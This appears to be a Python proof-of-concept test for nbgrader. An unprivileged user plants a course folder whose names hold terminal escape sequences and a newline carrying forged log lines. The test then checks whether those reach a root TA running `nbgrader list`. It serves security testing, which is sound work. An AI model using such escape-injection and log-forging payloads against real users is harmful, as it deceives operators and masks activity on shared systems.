"""a06: `nbgrader list` without a course (the TA in a folder of her own, where the course's nbgrader_config.py is not
read and CourseDirectory.course_id is empty; or a student): GuardedExchange.guard_exchange() returns at once when no
course id is set, and nbgrader's list globs <root>/*/outbound/* through every folder a student made in the sticky
exchange root and prints each course and assignment name raw. mallory (uid 65534) makes a course folder whose names
carry terminal escapes and a newline with a forged line. The TA (root) runs `nbgrader list` in /root/a47work (0700)."""
import os, subprocess, shutil, sys
from harness import *
d = course("a06")
EX = "/tmp/a47ex6"; shutil.rmtree(EX, ignore_errors=True)
NB = ["--Exchange.root=" + EX]
r = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", "release_assignment", "ps1_memory", "--CourseDirectory.course_id=distcourse", *NB], cwd=d, env=ENV, capture_output=True, text=True)
print("TA release rc", r.returncode, (r.stdout + r.stderr).strip().splitlines()[-1])
print(subprocess.run(["ls", "-la", EX], capture_output=True, text=True).stdout)
evil_course = "zz\x1b[2J\x1b[H\x1b]0;pwned\x07"
evil_assign = "ps1_memory (already downloaded)\n[ListApp | INFO] Released assignments:\n[ListApp | INFO] distcourse ps9_final_exam_answers\x1b[8m"
script = f'''
import os
c = os.path.join({EX!r}, {evil_course!r})
os.makedirs(os.path.join(c, "outbound", {evil_assign!r}))
open(os.path.join(c, "outbound", {evil_assign!r}, "x.ipynb"), "w").write("{{}}")
print(os.listdir({EX!r}))
'''
s = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", sys.executable, "-c", script], capture_output=True, text=True)
print("mallory:", s.returncode, s.stdout.strip(), s.stderr[-400:])
os.makedirs("/root/a47work", mode=0o700, exist_ok=True)
r = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", "list", *NB], cwd="/root/a47work", env=ENV, capture_output=True, text=True)
out = r.stdout + r.stderr
print("TA `nbgrader list` rc", r.returncode)
print("repr of what reached the TA's terminal:"); print(repr(out))
print("raw ESC in output:", "\x1b" in out, "| forged line:", "ps9_final_exam_answers" in out)
shutil.rmtree(EX); shutil.rmtree(d); shutil.rmtree("/root/a47work")
